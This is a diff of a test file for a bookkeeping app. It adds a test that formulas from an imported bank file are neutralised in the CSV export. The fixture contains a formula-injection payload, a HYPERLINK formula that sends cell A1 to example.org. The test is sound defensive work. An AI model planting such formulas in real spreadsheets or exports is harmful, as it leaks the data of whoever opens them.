@@ -21,6 +21,7 @@ from hypothesis import strategies as st
 from api.exports import beancount, hledger
 from api.exports import csv as csv_export
 from api.exports.content import Content, standing_accounts
+from commands.imports.delimited import Delimited
 from commands.sample import LIVES, household
 from domain.book import Book, BookCommand, BookId, OpenBook, decide, evolve
 from domain.ledger import (
@@ -315,3 +316,17 @@ def test_no_cell_of_a_csv_export_is_run_as_a_formula() -> None:
         assert csv_export.guarded(text) == "'" + text
     for text in ("-12.50", "+3", "12", "plain", "a=b", ""):
         assert csv_export.guarded(text) == text
+
+
+def test_a_formula_that_a_bank_file_brings_leaves_the_csv_export_as_a_text() -> None:
+    formula = '=HYPERLINK("http://example.org/?"&A1,"Click")'
+    file = io.StringIO()
+    csv.writer(file).writerows([["Date", "Payee", "Memo", "Amount"], ["2026-09-13", formula, "@SUM(A1)", "-1.00"]])
+    (read,) = Delimited().read(file.getvalue().encode()).statements[0].rows
+    assert (read.payee, read.memo) == (formula, "@SUM(A1)")
+    bought = Posting(AccountId("food"), brl("1.00")), Posting(AccountId("checking"), brl("-1.00"))
+    told = entry(1, *bought, payee=read.payee, memo=read.memo)
+    content = Content("b", "BRL", 1, {"BRL": BRL}, standing_accounts(ACCOUNTS), [], [told])
+    rows = list(csv.DictReader(io.StringIO("".join(csv_export.lines(content)), newline="")))
+    assert {(row["payee"], row["memo"]) for row in rows} == {("'" + formula, "'@SUM(A1)")}
+    assert [row["amount"] for row in rows] == ["1.00", "-1.00"]
